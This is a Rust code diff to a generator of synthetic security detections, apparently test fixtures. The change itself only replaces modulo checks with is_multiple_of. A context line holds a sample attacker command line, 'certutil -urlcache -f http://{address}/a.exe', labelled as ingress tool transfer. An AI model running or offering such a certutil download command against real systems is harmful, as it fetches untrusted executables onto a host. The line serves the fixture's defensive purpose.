@@ -41,7 +41,7 @@ pub(crate) fn detection(number: u64) -> NewDetection {
         tactics: vec!["Command And Control".into()],
         techniques: vec!["T1105".into()],
         host: Some(host),
-        user: (chance % 2 == 0).then(|| format!("HARBOUR\\user{}", chance % 30)),
+        user: chance.is_multiple_of(2).then(|| format!("HARBOUR\\user{}", chance % 30)),
         process: Some(r"C:\Windows\System32\certutil.exe".into()),
         observables: vec![ObservedFact { kind: ObservableKind::Ipv4, value: address.clone() }],
         matched: vec![("CommandLine".into(), Some(format!("certutil -urlcache -f http://{address}/a.exe")))],
@@ -49,10 +49,10 @@ pub(crate) fn detection(number: u64) -> NewDetection {
     NewDetection {
         facts,
         kind: "rule",
-        retro: chance % 10 == 0,
+        retro: chance.is_multiple_of(10),
         incident: None,
         links: vec![Link { kind: LinkKind::Host, value: "web".into(), gap_nanos: 5, to: id(number / 2) }],
-        withheld_by: (chance % 17 == 0).then(|| "exclusion-1".into()),
+        withheld_by: chance.is_multiple_of(17).then(|| "exclusion-1".into()),
         detail: format!("{{\"number\":{number},\"command_line\":\"{}\"}}", "x".repeat(300)),
     }
 }
